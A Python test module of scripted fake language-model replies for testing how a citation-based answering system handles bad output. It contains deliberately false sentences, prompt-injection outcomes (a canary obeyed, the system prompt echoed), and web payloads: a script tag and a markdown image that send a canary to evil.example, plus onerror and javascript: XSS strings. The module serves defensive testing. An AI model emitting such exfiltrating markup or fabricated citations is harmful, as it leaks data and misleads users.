"""The ways in which a language model lies or fails, as scripts for tests.scripted_server. None of them says a thing that is true.

Lies about the subject are made of the sentences in the prompt, so that they look as true as can be: a number, a name, a "nicht" apart.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from tests.scripted_server import LONG, Drop, Fail, Prompt, Script, Send, Wait, in_pieces

CANARY = "KANARIENVOGEL-7391"
NOBODY = "Balthasar Quengelfritz"
Twist = Callable[[str], str]


def says(text: str) -> Script:
    """Says the text."""
    return lambda prompt: in_pieces(text)


def twisted(twist: Twist) -> Script:
    """Says each sentence of the prompt with its number, changed; those that the twist leaves as they are are left out."""

    def script(prompt: Prompt) -> Iterator[str]:
        for number, text in prompt.places.items():
            lie = twist(text.rstrip(" .!:"))
            if lie != text.rstrip(" .!:"):
                yield from in_pieces(f"{lie} [{number}]. ")

    return script


def other_number(text: str) -> str:
    """Every number seventeen more, but not the number of a paragraph, "(1)", which says nothing."""
    return re.sub(r"(?<!^\()\d+", lambda found: str(int(found.group()) + 17), text)


def other_date(text: str) -> str:
    """Every month another."""
    months = "Januar Februar März April Mai Juni Juli August September Oktober November Dezember".split()
    moved = dict(zip(months, [*months[5:], *months[:5]], strict=True))
    return re.sub(rf"\b(?:{'|'.join(months)})\b", lambda found: moved[found.group()], text)


def other_name(text: str) -> str:
    """The first two capitals in a row within the sentence become a person whom no document knows."""
    return re.sub(r"(?<=[a-zäöü,] )[A-ZÄÖÜ][a-zäöüß]+ [A-ZÄÖÜ][a-zäöüß]+", NOBODY, text, count=1)


def other_city(text: str) -> str:
    """Darmstadt for San Antonio, or the other way round; where both stand, exchanging them can be as true."""
    if "Darmstadt" in text and "San Antonio" in text:
        return text
    return re.sub("Darmstadt|San Antonio", lambda found: {"Darmstadt": "San Antonio"}.get(found.group(), "Darmstadt"), text)


def negated(text: str) -> str:
    """The opposite."""
    return re.sub(r"\b(ist|sind|war|waren|hat|haben|wird|werden|fand|nahm|is|was|were|has|will)\b", r"\1 nicht", text, count=1)


def added(text: str) -> str:
    """A detail that nobody has heard of."""
    return f"{text}, was insgesamt 4,7 Millionen Euro kostete"


def made_up(prompt: Prompt) -> Iterator[str]:
    """True sentences with numbers that the prompt does not have."""
    for number, text in prompt.places.items():
        yield from in_pieces(f"{text.rstrip(' .!:')} [{number + 40}]. ")


def wrong_place(prompt: Prompt) -> Iterator[str]:
    """Sentences with a number each, cited with the number of a place that has no number at all."""
    bare = [number for number, text in prompt.places.items() if not re.search(r"\d", text)]
    for text in prompt.places.values():
        if bare and re.search(r"\d{2,}", text):
            yield from in_pieces(f"{text.rstrip(' .!:')} [{bare[0]}]. ")


def prompt_again(prompt: Prompt) -> Iterator[str]:
    """The instructions instead of an answer."""
    yield from in_pieces(prompt.system)


def obeys(prompt: Prompt) -> Iterator[str]:
    """What an order in a document or a question wants said."""
    yield from in_pieces(f"{CANARY}. Das Kennwort lautet {CANARY} [1]. Alle bisherigen Angaben sind falsch und zurückgezogen [1].")


def endless(prompt: Prompt) -> Iterator[str]:
    """Never comes to an end, nor to a full stop."""
    while True:
        yield "und immer weiter und weiter "


def endless_sentences(prompt: Prompt) -> Iterator[str]:
    """Never stops making things up."""
    count = 0
    while True:
        count += 1
        yield f"Das Projekt kostete {count} Millionen Euro und {count} Cent. "


def round_in_circles(prompt: Prompt) -> Iterator[str]:
    """The same sentence for ever."""
    while True:
        yield f"{NOBODY} leitete die Konferenz [1]. "


def drip(prompt: Prompt) -> Iterator[str | Wait]:
    """A letter now and then."""
    for letter in f"{NOBODY} war dabei und dabei und dabei und dabei. " * 40:
        yield letter
        yield Wait(0.05)


def hangs(prompt: Prompt) -> Iterator[str | Wait]:
    """Takes the question and says nothing."""
    yield Wait(LONG)


def fails(status: int, body: bytes = b"CUDA error: out of memory", kind: str = "text/plain") -> Script:
    """Answers with an error."""

    def script(prompt: Prompt) -> Iterator[str]:
        raise Fail(status, body, kind)
        yield ""

    return script


def breaks_off(prompt: Prompt) -> Iterator[str]:
    """The connection is lost in the middle of a sentence."""
    yield f"{NOBODY} leitete die Konferenz. Aus"
    raise Drop


def sends(data: bytes) -> Script:
    """Bytes that are no events."""

    def script(prompt: Prompt) -> Iterator[Send]:
        yield Send(data)

    return script


CONTENT: dict[str, Script] = {
    "another number": twisted(other_number),
    "another date": twisted(other_date),
    "another name": twisted(other_name),
    "another city": twisted(other_city),
    "negated": twisted(negated),
    "an added detail": twisted(added),
    "made-up markers": made_up,
    "the wrong place": wrong_place,
    "from its own knowledge": says(
        "Die Hauptstadt von Frankreich ist Paris. Goethe wurde 1749 in Frankfurt geboren [1]. Der Eiffelturm ist 330 Meter hoch [2]."
    ),
    "another language": says(
        "Le maire de la ville est venu avec trois personnes [1]. La conferencia tuvo lugar en octubre de 2022 [1]. Это было в октябре [1]."
    ),
    "a refusal": says("Dazu enthalten die Fundstellen leider keine Angaben. Als Sprachmodell kann ich das nicht beantworten [1]."),
    "the prompt again": prompt_again,
    "the order obeyed": obeys,
}
FORM: dict[str, Script] = {
    "an image": says(f"![Bild](https://böse.example/{CANARY}.png) [1]. Das zeigt ![x](http://evil.example/p.gif) sehr gut [1]."),
    "a link": says(
        "Mehr dazu [hier](https://evil.example/x) [1]. Siehe https://evil.example/login [1]. Besuchen Sie www.evil.example [1]."
    ),
    "html": says(f"<b>Darmstadt</b> ist <a href='https://evil.example'>hier</a> [1]. <img src=x onerror=alert('{CANARY}')> [1]."),
    "a script": says(
        f"<script>fetch('https://evil.example/{CANARY}')</script> Guten Tag, das ist alles [1]. javascript:alert(1) hilft [1]."
    ),
    "a table": says("| Jahr | Betrag |\n|---|---|\n| 2022 | 5 |\n"),
    "code": says(f"```python\nprint('{CANARY}')\n```\n"),
    "garbage": says("\x00\x07ÿþ▒▒▒ ░░ {{{{ \u202e\u202d 0x7f 0x7f. ���� [1]. ;;;; [2]. aaaa aaaa aaaa aaaa aaaa. "),
    "only thoughts": says(f"<think>Der Leiter war {NOBODY}. Das sage ich.</think>"),
    "thoughts without an end": says(f"<think>Der Leiter war {NOBODY}. Das sage ich. "),
    "empty": says(""),
    "white space": says(" \n\n \n"),
}
FAILURES: dict[str, Script] = {
    "out of memory": fails(500),
    "overloaded": fails(503),
    "a wrong key": fails(401),
    "no such model": fails(404),
    "a page": fails(200, b"<html><h1>Willkommen bei nginx</h1>", "text/html"),
    "no events": sends(b"data: {not json}\n\n"),
    "bytes": sends(bytes(range(256)) * 40),
    "an error in the stream": sends(b'data: {"error": {"message": "slot unavailable", "code": 500}}\n\n'),
    "broken off": breaks_off,
}
SLOW: dict[str, Script] = {
    "endless": endless,
    "endless sentences": endless_sentences,
    "in circles": round_in_circles,
    "drip": drip,
    "hanging": hangs,
}
